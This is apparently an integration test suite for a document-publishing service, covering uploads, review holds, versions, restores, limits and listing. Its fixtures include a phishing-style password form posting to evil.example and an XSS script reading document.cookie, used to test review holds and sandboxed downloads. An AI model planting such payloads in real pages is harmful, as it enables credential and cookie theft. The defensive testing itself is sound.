import { request } from 'node:http';
import { afterAll, beforeAll, describe, expect, it, onTestFinished, vi } from 'vitest';
import type { CreatedOwner } from '../../service/accounts/create-owner.ts';
import { createPublishLimiter, refusedPerHour } from '../../service/plans/publish-limiter.ts';
import { makeDocx } from '../support/files/office.ts';
import { makePdf } from '../support/files/pdf.ts';
import { makeZip } from '../support/files/zip.ts';
import { fileForm, signedIn } from '../support/pages/console-session.ts';
import type { CookieBrowser } from '../support/pages/cookie-browser.ts';
import { visit } from '../support/pages/link-visitor.ts';
import { conversionsEnded, countBlobs } from '../support/service/blob-count.ts';
import { type StartedService, startService } from '../support/service/service.ts';

let service: StartedService;

const uploadLimit = 300_000;

beforeAll(async () => {
  const env = { UPLOAD_LIMIT: String(uploadLimit), FREE_DOCUMENTS: '1', FREE_UPDATES: '1' };
  service = await startService({ env });
});

afterAll(() => service.stop());

const post = (browser: CookieBrowser, path: string, fields: FormData | Record<string, string> = {}) =>
  browser.post(service.baseUrl + path, fields);
const text = async (browser: CookieBrowser, path: string) => (await browser.get(service.baseUrl + path)).text();

/** Publishes through the console. @returns the path of the document's page, and its link */
async function publish(browser: CookieBrowser, form: FormData): Promise<{ path: string; link: string; page: string }> {
  const answer = await post(browser, '/documents', form);
  expect(answer.status).toBe(303);
  const path = (answer.headers.get('location') ?? '').replace(/\?.*/, '');
  const page = await (await browser.follow(answer, service.baseUrl)).text();
  return { path, page, link: /<code class="link-text"[^>]*>([^<]*)</.exec(page)?.[1] ?? '' };
}

/** Returns the document's content as a visitor receives it. */
async function contentOf(link: string): Promise<string> {
  return (await fetch((await visit(link)).content)).text();
}

/** Encodes a form as a browser sends it. */
async function encode(form: FormData): Promise<{ contentType: string; body: Uint8Array }> {
  const encoded = new Response(form);
  return { contentType: encoded.headers.get('content-type') ?? '', body: new Uint8Array(await encoded.arrayBuffer()) };
}

async function newBrowser(owner?: CreatedOwner): Promise<CookieBrowser> {
  return signedIn(service, owner ?? (await service.createOwner()));
}

const html = (words: string) => ({ name: 'page.html', bytes: `<!doctype html><title>${words}</title><p>${words}` });

describe('a file published from the console', () => {
  it('has the file’s title or the entered one, and works at once', async () => {
    const browser = await newBrowser();
    const { link, page } = await publish(browser, fileForm(html('Hello'), { title: '', password: '' }));
    expect(page).toContain('Published. Copy the link');
    expect(page).toContain('<bdi>Hello</bdi>');
    expect(await contentOf(link)).toContain('<p>Hello');
    const named = await publish(browser, fileForm({ name: 'a.pdf', bytes: await makePdf(2) }, { title: 'Plan <1>' }));
    expect(named.page).toContain('<bdi>Plan &lt;1&gt;</bdi>');
  });

  it('has a link without its title when a password is set with it', async () => {
    const { link } = await publish(
      await newBrowser(),
      fileForm(html('Secret'), { title: 'Merger', password: 'open it' }),
    );
    expect(link).not.toContain('merger');
    expect((await visit(link)).html).toContain('type="password"');
  });

  it('is not published for who cancelled while its last bytes were on their way', async () => {
    const browser = await newBrowser();
    const { contentType, body } = await encode(fileForm(html('Cancelled')));
    const [started, ended] = [
      vi.spyOn(service.deps.metrics, 'uploadStarted'),
      vi.spyOn(service.deps.metrics, 'uploadEnded'),
    ];
    onTestFinished(() => void vi.restoreAllMocks());
    const blobs = await countBlobs(service.dir);
    const upload = request(`${service.baseUrl}/documents`, {
      method: 'POST',
      headers: {
        cookie: browser.cookies(`${service.baseUrl}/documents`),
        origin: service.baseUrl,
        'content-type': contentType,
      },
    });
    upload.on('error', () => {});
    upload.write(body.subarray(0, -1));
    await expect.poll(() => started.mock.calls.length).toBe(1);
    upload.end(body.subarray(-1), () => upload.destroy());
    await expect.poll(() => ended.mock.calls.length).toBe(1);
    expect(await text(browser, '/documents')).not.toContain('Cancelled');
    expect(await countBlobs(service.dir)).toBe(blobs);
  });

  it('is not reported as published while it is held', async () => {
    const form = fileForm({
      name: 'pay.html',
      bytes: '<form action="https://evil.example/"><input type="password"></form>',
    });
    const { page } = await publish(await newBrowser(), form);
    expect(page).toContain('Waiting for review. The link works');
    expect(page).toContain('sends it to evil.example');
    expect(page).not.toContain('Published. Copy the link');
  });

  it('is reported as pending while it is converted, and as published on the same page after that', async () => {
    const form = fileForm({ name: 'plan.docx', bytes: makeDocx('Harbour') });
    const browser = await newBrowser();
    const { page, path } = await publish(browser, form);
    expect(page).toContain('Uploaded. You can copy the link now.');
    expect(page).toContain('This takes a minute or two.');
    expect(page).not.toContain('Copy the link and share it');
    expect(path).toMatch(/^\/documents\/[\w-]{36}\/$/);
    await conversionsEnded(service);
    // The page asks for itself again when an event comes.
    expect(await text(browser, `${path}?done=received`)).toContain('Published. Copy the link and share it.');
    expect(await text(browser, `${path}versions/?done=received`)).toContain('Updated. The link shows the new content.');
  });

  it.each([
    ['of another kind', { name: 'program.exe', bytes: 'MZ and more' }, /can be published|take|Publish/],
    ['that is too large', { name: 'large.html', bytes: `<!doctype html>${'x'.repeat(uploadLimit)}` }, /larger than/],
    ['that was not chosen', { name: '', bytes: '' }, /Choose a file first/],
  ])('%s is refused with a message, keeps the title, and leaves nothing behind', async (_name, file, words) => {
    const owner = await service.createOwner();
    const browser = await newBrowser(owner);
    await conversionsEnded(service);
    const blobs = await countBlobs(service.dir);
    const answer = await post(browser, '/documents', fileForm(file, { title: 'Kept "title"', password: 'not kept' }));
    expect(answer.status).toBe(400);
    const page = await answer.text();
    expect(page).toMatch(words);
    expect(page).toContain('value="Kept &quot;title&quot;"');
    expect(page).toContain('action="/documents" enctype="multipart/form-data"');
    expect(page).not.toContain('not kept');
    expect(page).toContain('Enter the link’s password again, too.');
    expect(await countBlobs(service.dir)).toBe(blobs);
  });

  it('counts towards the limit like an API upload, whether refused or accepted', async () => {
    const owner = await service.createOwner();
    const browser = await newBrowser(owner);
    const published = async () => {
      const { text } = await service.deps.metrics.read();
      return Number(/linkwake_publishes_total\{what="published"\} (\d+)/.exec(text)?.[1] ?? 0);
    };
    const before = await published();
    await publish(browser, fileForm(html('Counted')));
    expect(await published()).toBe(before + 1);

    const limiter = createPublishLimiter(service.deps);
    for (let count = 1; count < refusedPerHour; count += 1) await limiter.countRefusal(owner.userId);
    await limiter.checkLimit(owner.userId);
    const refused = { name: 'program.exe', bytes: 'MZ and more' };
    expect((await post(browser, '/documents', fileForm(refused))).status).toBe(400);
    const answer = await post(browser, '/documents', fileForm(html('Not looked at')));
    expect(answer.status).toBe(429);
    expect(await published()).toBe(before + 1);
  });

  it('beyond the plan is refused with a link to the plans', async () => {
    const browser = await newBrowser(await service.createOwner({ plan: 'free' }));
    await publish(browser, fileForm(html('One')));
    const answer = await post(browser, '/documents', fileForm(html('Two')));
    expect(answer.status).toBe(403);
    expect(await answer.text()).toContain('href="/plan/"');
  });
});

describe('content replaced from the console', () => {
  it('appears under the same link, and both versions are kept and listed', async () => {
    const browser = await newBrowser();
    const { path, link } = await publish(browser, fileForm(html('First')));
    const site = makeZip({ 'index.html': '<!doctype html><p>Second' });
    const answer = await post(
      browser,
      `${path}replace/`,
      fileForm({ name: 'site.zip', bytes: site }, { title: 'New name' }),
    );
    expect(answer.headers.get('location')).toBe(`${path}versions/?done=replaced`);
    expect(await contentOf(link)).toContain('<p>Second');
    const page = await text(browser, `${path}versions/?done=replaced`);
    expect(page).toContain('Updated. The link shows the new content');
    expect(page).toContain('<bdi>New name</bdi>');
    const [second = '', first = ''] =
      page.match(/<li class="version">.*?<\/li>(?=<li class="version">|<\/ol>)/gs) ?? [];
    expect(second).toContain('Version 2');
    expect(second).toContain('Current');
    expect(second).toContain('site.zip');
    expect(first).toContain('page.html');
    expect(first).toContain('/versions/1/restore"');
    expect(second).not.toContain('/restore"');
  });

  it('is of the original’s kind: the page names it, and another is refused with the title kept', async () => {
    const browser = await newBrowser();
    const { path, link } = await publish(browser, fileForm(html('Page')));
    expect(await text(browser, `${path}replace/`)).toContain('accept=".html,.htm,.zip"');
    const pdf = { name: 'a.pdf', bytes: await makePdf() };
    const answer = await post(browser, `${path}replace/`, fileForm(pdf, { title: 'Kept' }));
    expect(answer.status).toBe(400);
    const page = await answer.text();
    expect(page).toContain('accepts HTML or a zipped website');
    expect(page).toContain('value="Kept"');
    expect(await contentOf(link)).toContain('<p>Page');
  });

  it('is no new version when the link shows the file already', async () => {
    const browser = await newBrowser();
    const { path } = await publish(browser, fileForm(html('Same')));
    const replace = async (words: string, fields = {}) => {
      const answer = await post(browser, `${path}replace/`, fileForm(html(words), fields));
      return answer.headers.get('location');
    };
    expect(await replace('Same')).toBe(`${path}versions/?done=unchanged`);
    const page = await text(browser, `${path}versions/?done=unchanged`);
    expect(page).toContain('The link already shows this file.');
    expect(page).not.toContain('Version 2');
    expect(await replace('Same', { title: 'New name' })).toBe(`${path}versions/?done=replaced`);
    expect(await replace('Other')).toBe(`${path}versions/?done=replaced`);
    // The newest version is compared, not an earlier one.
    expect(await replace('Same')).toBe(`${path}versions/?done=replaced`);
  });

  it.each([
    ['was rejected', { review_status: 'held', reviewed_at: new Date(), review_reason: 'It imitates a bank.' }],
    ['waits for review', { review_status: 'held' }],
  ])('is a new version of a document that %s, though its file is the same', async (_what, columns) => {
    const browser = await newBrowser();
    const { path } = await publish(browser, fileForm(html('Same')));
    const documents = service.db.updateTable('documents').where('id', '=', path.split('/')[2] ?? '');
    await documents.set(columns).execute();
    const answer = await post(browser, `${path}replace/`, fileForm(html('Same')));
    expect(answer.headers.get('location')).toMatch(/\/versions\/\?done=(?:received|replaced)$/);
    const versions = await text(browser, answer.headers.get('location') ?? '');
    expect(versions).toContain('Version 2');
    expect(versions).not.toContain('The link shows the new content.');
  });

  it('is no new version of a document that has expired, which is not said to show it', async () => {
    const browser = await newBrowser();
    const { path } = await publish(browser, fileForm(html('Same')));
    const documents = service.db.updateTable('documents').where('id', '=', path.split('/')[2] ?? '');
    await documents.set({ expires_on: '2020-01-01' }).execute();
    const again = await post(browser, `${path}replace/`, fileForm(html('Same')));
    const unchanged = await text(browser, again.headers.get('location') ?? '');
    expect(unchanged).toContain('This file is already the newest version. Nothing was changed.');
    expect(unchanged).not.toContain('Version 2');
    const changed = await post(browser, `${path}replace/`, fileForm(html('Other')));
    const versions = await text(browser, changed.headers.get('location') ?? '');
    expect(versions).toContain('Version 2');
    expect(versions).not.toContain('The link shows the new content.');
  });

  it('is listed with the reason when it fails, and cannot be restored', async () => {
    const browser = await newBrowser();
    const { path } = await publish(browser, fileForm({ name: 'a.pdf', bytes: await makePdf() }));
    await post(browser, `${path}replace/`, fileForm({ name: 'b.pdf', bytes: await makePdf(2) }));
    await post(browser, `${path}replace/`, fileForm({ name: 'c.pdf', bytes: await makePdf(3) }));
    const versions = service.db.updateTable('versions').where('document_id', '=', path.split('/')[2] ?? '');
    const failure = 'The file is locked with a password.';
    await versions.set({ state: 'failed', failure }).where('number', '=', 2).execute();
    expect(await text(browser, `${path}versions/`)).toContain(failure);
    const answer = await post(browser, `${path}versions/2/restore`);
    expect(answer.status).toBe(400);
    expect(await answer.text()).toContain('Version 2 can’t be shown.');
  });
});

describe('an earlier version', () => {
  it('is restored as a new version, with all its files, and counts as an update', async () => {
    const owner = await service.createOwner();
    const browser = await newBrowser(owner);
    const site = makeZip({ 'index.html': '<!doctype html><p>First', 'deep/more.html': '<!doctype html><p>Deep' });
    const { path, link } = await publish(browser, fileForm({ name: 'site.zip', bytes: site }));
    await post(browser, `${path}replace/`, fileForm(html('Second')));
    expect(await contentOf(link)).toContain('<p>Second');
    const answer = await post(browser, `${path}versions/1/restore`);
    expect(answer.headers.get('location')).toBe(`${path}versions/?done=restored`);
    expect(await contentOf(link)).toContain('<p>First');
    const deep = await fetch(`${(await visit(link)).content}deep/more.html`);
    expect(await deep.text()).toContain('<p>Deep');
    const page = await text(browser, `${path}versions/`);
    expect(page).toContain('restores version 1');
    expect(page).toMatch(/Version 3<\/h3><span class="state state-good">/);
    const again = await post(browser, `${path}versions/3/restore`);
    expect(await again.text()).toContain('Viewers already see version 3.');
    // The same request as before, as from another tab.
    const repeated = await post(browser, `${path}versions/1/restore`);
    expect(await repeated.text()).toContain('Viewers already see version 1.');
    await service.db.updateTable('workspaces').set({ plan: 'free' }).where('id', '=', owner.workspaceId).execute();
    const beyond = await post(browser, `${path}versions/2/restore`);
    expect([beyond.status, await beyond.text()]).toEqual([403, expect.stringContaining('href="/plan/"')]);
  });

  it.each(['9', '0', 'x', '1e9', '99999999999'])('does not exist with the number %s', async (number) => {
    const browser = await newBrowser();
    const { path } = await publish(browser, fileForm(html('Only')));
    expect((await post(browser, `${path}versions/${number}/restore`)).status).toBe(404);
    expect((await browser.get(`${service.baseUrl}${path}versions/${number}/original`)).status).toBe(404);
  });

  it('is downloaded by its owner byte for byte, and never displayed', async () => {
    const browser = await newBrowser();
    const file = { name: 'Grüße.html', bytes: '<!doctype html><script>alert(document.cookie)</script>' };
    const { path } = await publish(browser, fileForm(file, { title: 'Hostile' }));
    const answer = await browser.get(`${service.baseUrl}${path}versions/1/original`);
    expect(await answer.text()).toBe(file.bytes);
    expect(Object.fromEntries(answer.headers)).toMatchObject({
      'content-type': 'application/octet-stream',
      'content-disposition': expect.stringMatching(/^attachment; filename="Gr__e\.html"/),
      'content-length': String(file.bytes.length),
      'content-security-policy': "default-src 'none'; sandbox; frame-ancestors 'none'",
      'x-content-type-options': 'nosniff',
      'cache-control': 'no-store',
    });
  });
});

describe('the list of documents', () => {
  it('has pages, also for a search', async () => {
    const owner = await service.createOwner();
    const browser = await newBrowser(owner);
    await publish(browser, fileForm(html('Harbour')));
    const { id, ...row } = await service.db
      .selectFrom('documents')
      .selectAll()
      .where('workspace_id', '=', owner.workspaceId)
      .executeTakeFirstOrThrow();
    const version = await service.db
      .selectFrom('versions')
      .selectAll()
      .where('document_id', '=', id)
      .executeTakeFirstOrThrow();
    for (let n = 0; n < 50; n += 1) {
      const values = { ...row, slug: `${row.slug}${n}`, live_version_id: null, field_labels: '{}' };
      const copy = await service.db.insertInto('documents').values(values).returning('id').executeTakeFirstOrThrow();
      const { id: _, warning_details: _data, failure_details: _why, ...columns } = version;
      await service.db
        .insertInto('versions')
        .values({ ...columns, document_id: copy.id, warnings: '[]', form: null, placed_fields: null })
        .execute();
    }
    const titles = (page: string) => page.match(/>Harbour<\/a>/g)?.length;
    const first = await text(browser, '/documents');
    expect(first).toContain('href="/documents?page=2"');
    expect([titles(first), titles(await text(browser, '/documents?page=2'))]).toEqual([50, 1]);
    expect(await text(browser, '/documents?query=harb')).toContain('href="/documents?query=harb&amp;page=2"');
    expect(await text(browser, '/documents?page=3')).toContain('No more documents.');
  });
});
